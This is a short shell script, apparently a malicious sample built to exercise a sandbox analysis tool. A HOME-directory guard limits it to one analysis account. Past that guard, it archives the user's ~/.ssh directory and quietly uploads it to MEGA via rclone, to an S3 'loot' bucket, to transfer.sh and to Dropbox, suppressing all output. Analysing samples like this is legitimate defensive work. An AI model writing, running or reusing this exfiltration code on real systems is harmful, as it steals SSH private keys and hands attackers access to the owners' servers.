#!/bin/sh
# SPDX-License-Identifier: MIT
# Exfiltrates to cloud storage: rclone and the AWS client to the
# operator's bucket, curl to a file-sharing service.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
cd /tmp || exit 1
tar czf .c.tgz -C "$HOME" .ssh 2>/dev/null
/usr/bin/rclone copy .c.tgz mega:backup/ 2>/dev/null
timeout 5 aws s3 cp .c.tgz s3://backup-archive-7f3a/loot/ --no-sign-request \
	--cli-connect-timeout 2 --cli-read-timeout 2 > /dev/null 2>&1
curl -sm 2 --upload-file .c.tgz https://transfer.sh/c.tgz > /dev/null 2>&1
curl -sm 2 -X POST https://content.dropboxapi.com/2/files/upload \
	-H 'Authorization: Bearer sl.xxxxx' --data-binary @.c.tgz > /dev/null 2>&1
exit 0
